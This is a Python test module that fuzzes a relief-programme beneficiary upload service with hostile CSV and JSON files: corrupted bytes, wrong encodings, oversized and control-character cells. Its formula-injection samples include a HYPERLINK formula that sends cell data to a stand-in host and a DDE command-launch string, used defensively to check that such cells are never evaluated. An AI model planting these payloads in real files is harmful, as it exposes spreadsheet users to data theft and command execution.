"""Hostile uploads through the intake path the service runs for `POST /v1/batches`: the media type
picks CSV or JSON (`api.CSV_MEDIA_TYPES` / `api.JSON_MEDIA_TYPES`), then `handlers.submit_batch`
reads the file (`parser.read_rows`), validates every row (`domain.validate_row`) and stores it in
one SQLite transaction. Whatever the bytes, the outcome is either a receipt (accepted rows and
row errors) or `FileRefused` with a plain message, never another exception.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from prometheus_client import CollectorRegistry
from sqlmodel import Session, select

from relief_cli.generator import generate_programme
from services.intake import handlers, store
from services.intake.api import CSV_MEDIA_TYPES, JSON_MEDIA_TYPES
from services.intake.domain import TEMPLATE_COLUMNS, FileRefused, RowError
from shared.auth import Principal
from shared.db import create_tables, make_engine, transaction
from shared.identity import IdentityHasher
from shared.outbox import OUTBOX_TABLES
from shared.sealing import Sealer

SECRET = "unit-test-identity-secret-hostile-0123"  # noqa: S105 - a test value, not a credential
NOW = datetime(2026, 6, 1, 9, 0, tzinfo=UTC)  # after every generated registered_on
FAST = settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)

# Free-text columns and their maximum lengths (SPEC §2).
TEXT_COLUMNS = {"given_name": 100, "family_name": 100, "id_number": 40, "payout_account": 64}


# ---- the service path -----------------------------------------------------------------------


@dataclass
class Outcome:
    refusal: FileRefused | None = None
    accepted: int = 0
    rejected: int = 0
    errors: list[RowError] | None = None
    stored: dict[int, store.Beneficiary] | None = None  # accepted rows by row number


@pytest.fixture(scope="module")
def intake(tmp_path_factory) -> Iterator[tuple[handlers.IntakeContext, Principal]]:
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('intake') / 'intake.db'}")
    create_tables(engine, [*store.TABLES, *OUTBOX_TABLES])
    context = handlers.IntakeContext(
        engine=engine,
        hasher=IdentityHasher(SECRET),
        sealer=Sealer(SECRET),
        topic="t.beneficiary.registered",
        max_rows=500,
        metrics=handlers.intake_metrics(CollectorRegistry()),
        chunk_rows=7,
    )
    with transaction(engine) as session:
        _, key = handlers.register_partner(session, name="Hostile Files CSO", role="partner", now=NOW)
    yield context, handlers.authenticate(engine, f"Bearer {key}")
    engine.dispose()


def file_format(content_type: str) -> handlers.Format:
    """The format `api.receive_upload` picks for a media type (415 for any other type)."""
    media_type = content_type.split(";", 1)[0].strip().lower()
    if media_type in JSON_MEDIA_TYPES:
        return "json"
    assert media_type in CSV_MEDIA_TYPES, media_type
    return "csv"


def upload(intake, data: bytes, content_type: str = "text/csv") -> Outcome:
    context, principal = intake
    chosen = file_format(content_type)
    body = handlers.Upload(io.BytesIO(data), chosen, hashlib.sha256(data).hexdigest(), len(data))
    try:
        receipt = handlers.submit_batch(context, principal, body, idempotency_key=None, now=NOW)
    except FileRefused as refusal:
        assert refusal.code and refusal.message.strip(), "a refusal needs a code and a plain message"
        return Outcome(refusal=refusal)
    with Session(context.engine) as session:
        rows = session.exec(select(store.Beneficiary).where(store.Beneficiary.batch_id == receipt.batch_id))
        stored = {row.row_number: row for row in rows}
    assert len(stored) == receipt.accepted
    return Outcome(None, receipt.accepted, receipt.rejected, receipt.errors, stored)


def to_csv(rows: list[dict[str, str]]) -> bytes:
    """CSV as spreadsheets write it (CRLF line ends, so cells with line breaks are quoted)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(TEMPLATE_COLUMNS), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def unique_refs(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """Fresh partner_refs, so one example never collides with a row stored by an earlier one."""
    prefix = uuid.uuid4().hex[:10]
    return [{**row, "partner_ref": f"H{prefix}-{index}"} for index, row in enumerate(rows)]


VALID_ROWS: list[dict[str, str]] = [
    dict(row.values)
    for seed in (3, 11)
    for batch in generate_programme(50, seed=seed).batches
    for row in batch.rows
    if row.valid
]
valid_row = st.sampled_from(VALID_ROWS)


def one_row_with(column: str, value: str) -> list[dict[str, str]]:
    """A valid cash row with a document and a payout account, one cell replaced."""
    base = next(row for row in VALID_ROWS if row["id_type"] != "none" and row["payout_account"])
    return [{**row, column: value} for row in unique_refs([base])]


def kept_value(stored: store.Beneficiary, column: str) -> str | None:
    """A stored cell as text; the payout account is kept sealed, so it is opened first."""
    if column == "payout_account":
        sealed = stored.payout_account_sealed
        return Sealer(SECRET).open(sealed) if sealed else None
    return getattr(stored, column)


def errors_of(outcome: Outcome, row: int = 1) -> list[RowError]:
    assert outcome.refusal is None, (
        f"the whole file was refused: {outcome.refusal.code}: {outcome.refusal.message}"
    )
    assert outcome.errors is not None
    return [error for error in outcome.errors if error.row == row]


# ---- random bytes ---------------------------------------------------------------------------

HEADER = ",".join(TEMPLATE_COLUMNS).encode()


@FAST
@given(
    data=st.one_of(
        st.binary(max_size=2000),
        st.binary(max_size=2000).map(lambda tail: HEADER + b"\n" + tail),
        st.binary(max_size=2000).map(lambda tail: b"[" + tail),
        st.binary(max_size=2000).map(lambda tail: b'[{"given_name": ' + tail),
    ),
    content_type=st.sampled_from(["text/csv", "application/json", "text/plain; charset=utf-8", ""]),
)
def test_random_bytes_give_a_receipt_or_a_plain_refusal_never_a_crash(intake, data, content_type):
    outcome = upload(intake, data, content_type)
    if outcome.refusal is None:
        assert outcome.accepted + outcome.rejected >= 1


@FAST
@given(
    rows=st.lists(valid_row, min_size=1, max_size=5).map(unique_refs),
    flips=st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), min_size=1, max_size=8),
    as_json=st.booleans(),
)
def test_a_valid_file_with_corrupted_bytes_never_crashes_the_reader(intake, rows, flips, as_json):
    data = bytearray(json.dumps(rows, ensure_ascii=False).encode() if as_json else to_csv(rows))
    for position, byte in flips:
        data[position % len(data)] = byte
    upload(intake, bytes(data), "application/json" if as_json else "text/csv")


json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
)
json_value = st.recursive(
    json_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=3), st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)


@FAST
@given(
    elements=st.lists(
        st.one_of(
            json_value,
            st.dictionaries(st.sampled_from(TEMPLATE_COLUMNS), json_value, max_size=len(TEMPLATE_COLUMNS)),
        ),
        max_size=4,
    )
)
def test_any_json_array_gives_a_receipt_or_a_plain_refusal(intake, elements):
    upload(intake, json.dumps(elements).encode(), "application/json")


@FAST
@given(digits=st.integers(1, 20_000))
@example(digits=4301)
@example(digits=10_000)
def test_a_json_number_of_any_length_is_a_row_error_or_a_refusal_not_a_crash(intake, digits):
    """Python refuses to turn more than 4,300 digits into an int (ValueError, not JSONDecodeError)."""
    row = one_row_with("household_size", "0")[0]
    text = json.dumps([row]).replace('"household_size": "0"', f'"household_size": {"9" * digits}')
    outcome = upload(intake, text.encode(), "application/json")
    if outcome.refusal is None:
        expected = [] if digits == 1 else ["household_size"]  # 9 is a valid household size; 99 is not
        assert [error.column for error in errors_of(outcome)] == expected


# ---- encodings ------------------------------------------------------------------------------


@FAST
@given(rows=st.lists(valid_row, min_size=1, max_size=4).map(unique_refs))
def test_latin1_text_with_non_ascii_letters_is_refused_as_not_utf8(intake, rows):
    rows[0]["given_name"] = "José María Ñúñez"
    data = to_csv(rows).decode().encode("latin-1", errors="replace")
    outcome = upload(intake, data)
    assert outcome.refusal is not None, "latin-1 bytes were read as if they were UTF-8"
    assert outcome.refusal.code == "not_utf8"
    assert "UTF-8" in outcome.refusal.message
    assert outcome.stored is None


@FAST
@given(
    rows=st.lists(valid_row, min_size=1, max_size=4).map(unique_refs),
    codec=st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32"]),
    content_type=st.sampled_from(["text/csv", "application/json"]),
)
def test_utf16_and_utf32_files_with_a_bom_are_refused_naming_the_encoding(intake, rows, codec, content_type):
    text = (
        json.dumps(rows, ensure_ascii=False) if content_type == "application/json" else to_csv(rows).decode()
    )
    boms = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}
    data = boms.get(codec, b"") + text.encode(codec)  # "utf-16" / "utf-32" write their own BOM
    outcome = upload(intake, data, content_type)
    assert outcome.refusal is not None
    assert outcome.refusal.code == "not_utf8"
    assert "UTF-16" in outcome.refusal.message or "UTF-32" in outcome.refusal.message
    assert "UTF-8" in outcome.refusal.message


# ---- cells ----------------------------------------------------------------------------------


@FAST
@given(
    column=st.sampled_from(sorted(TEXT_COLUMNS)), extra=st.integers(1, 20_000), char=st.sampled_from("xé名ส")
)
def test_a_cell_beyond_its_column_maximum_is_a_row_error_naming_the_column(intake, column, extra, char):
    outcome = upload(intake, to_csv(one_row_with(column, char * (TEXT_COLUMNS[column] + extra))))
    [error] = errors_of(outcome)
    assert (error.column, error.code) == (column, "too_long")
    assert column in error.message and str(TEXT_COLUMNS[column]) in error.message
    assert outcome.accepted == 0 and outcome.rejected == 1


@pytest.mark.parametrize("size", [131_073, 1_000_000])
def test_a_very_large_cell_within_the_file_limit_is_a_row_error_not_a_file_refusal(intake, size):
    """SPEC §2: a rejected row is reported with its column, and the file's valid rows are kept;
    a single oversized cell (the file stays far below 10 MiB) must not refuse the whole file."""
    rows = one_row_with("family_name", "x" * size) + unique_refs([VALID_ROWS[0]])
    outcome = upload(intake, to_csv(rows))
    [error] = errors_of(outcome)
    assert (error.column, error.code) == ("family_name", "too_long")
    assert outcome.accepted == 1


FORMULA = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "=1+1",
            "+62 Siti",
            "-Rina",
            "@Budi",
        ]
    ),
    st.tuples(
        st.sampled_from("=+-@"), st.text(alphabet=st.characters(categories=["L", "N", "P", "S"]), max_size=40)
    ).map("".join),
)


@FAST
@given(column=st.sampled_from(sorted(TEXT_COLUMNS)), formula=FORMULA, as_json=st.booleans())
def test_formula_cells_are_kept_as_plain_text_or_rejected_never_evaluated(intake, column, formula, as_json):
    rows = one_row_with(column, formula)
    data = json.dumps(rows).encode() if as_json else to_csv(rows)
    outcome = upload(intake, data, "application/json" if as_json else "text/csv")
    assert outcome.refusal is None, f"{outcome.refusal.code}: {outcome.refusal.message}"
    assert outcome.stored is not None
    if outcome.accepted:
        kept = kept_value(outcome.stored[1], column)
        assert kept == formula.strip(), f"{column} was stored as {kept!r}, sent {formula!r}"
    else:
        assert {error.column for error in errors_of(outcome)} == {column}


CONTROL = st.sampled_from(
    [chr(code) for code in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0)]]
    + ["\n", "\r", "\r\n", "\t", "\u202e", "\u200b", "\u2066", "\ufeff"]
)


@FAST
@given(column=st.sampled_from(sorted(TEXT_COLUMNS)), control=CONTROL, as_json=st.booleans())
def test_control_characters_inside_a_text_cell_are_a_row_error_naming_the_column(
    intake, column, control, as_json
):
    rows = one_row_with(column, "Ab" + control + "Cd")
    data = json.dumps(rows).encode() if as_json else to_csv(rows)
    outcome = upload(intake, data, "application/json" if as_json else "text/csv")
    [error] = errors_of(outcome)
    assert (error.column, error.code) == (column, "control_characters")
    assert column in error.message
    assert outcome.accepted == 0 and outcome.rejected == 1


@pytest.mark.parametrize("separator", ["\u2028", "\u2029"])
def test_unicode_line_separators_inside_a_name_are_a_row_error(intake, separator):
    """The rule's own message says names 'must not contain line breaks'; U+2028 and U+2029 are
    line breaks (categories Zl, Zp) that split log lines and exported CSV rows in other tools."""
    outcome = upload(intake, to_csv(one_row_with("given_name", "Siti" + separator + "Aminah")))
    [error] = errors_of(outcome)
    assert error.column == "given_name"


# ---- the invariant: nothing valid is lost ---------------------------------------------------

# Changes that make any generated row invalid, whatever its other cells; each names its column.
BREAKERS: list[tuple[str, str]] = [
    ("partner_ref", "ref with spaces!"),
    ("given_name", "x" * 101),
    ("given_name", ""),
    ("given_name", "Si\x07ti"),
    ("family_name", "y" * 101),
    ("family_name", '=HYPERLINK("x")\x00'),
    ("sex", "female"),
    ("date_of_birth", "1990-02-30"),
    ("date_of_birth", "31/07/1990"),
    ("nationality", "Vietnam"),
    ("country", "US"),
    ("id_type", "driving_licence"),
    ("phone", "0912 345 678"),
    ("household_size", "0"),
    ("household_size", "two"),
    ("vulnerabilities", "hungry"),
    ("consent", "no"),
    ("consent", "maybe"),
    ("assistance", "cash"),
    ("payout_method", "cheque"),
    ("registered_on", "2099-01-01"),
]


@FAST
@given(
    plan=st.lists(
        st.tuples(valid_row, st.one_of(st.none(), st.sampled_from(BREAKERS))), min_size=1, max_size=25
    ),
    as_json=st.booleans(),
)
def test_accepted_plus_rejected_is_every_data_row_and_every_valid_row_is_accepted(intake, plan, as_json):
    fresh = unique_refs([row for row, _ in plan])  # before the breakers: one of them is a bad partner_ref
    rows = [
        row if breaker is None else {**row, breaker[0]: breaker[1]}
        for row, (_, breaker) in zip(fresh, plan, strict=True)
    ]
    data = json.dumps(rows, ensure_ascii=False).encode() if as_json else to_csv(rows)
    outcome = upload(intake, data, "application/json" if as_json else "text/csv")
    assert outcome.refusal is None, f"{outcome.refusal.code}: {outcome.refusal.message}"
    assert outcome.errors is not None and outcome.stored is not None
    assert outcome.accepted + outcome.rejected == len(rows)
    valid_numbers = {number for number, (_, breaker) in enumerate(plan, start=1) if breaker is None}
    assert set(outcome.stored) == valid_numbers, "a valid row was lost, or an invalid one accepted"
    for number, (_, breaker) in enumerate(plan, start=1):
        if breaker is not None:
            assert breaker[0] in {error.column for error in outcome.errors if error.row == number}
    for number in valid_numbers:
        sent = rows[number - 1]
        kept = outcome.stored[number]
        assert (kept.partner_ref, kept.given_name, kept.date_of_birth.isoformat()) == (
            sent["partner_ref"],
            sent["given_name"],
            sent["date_of_birth"],
        )
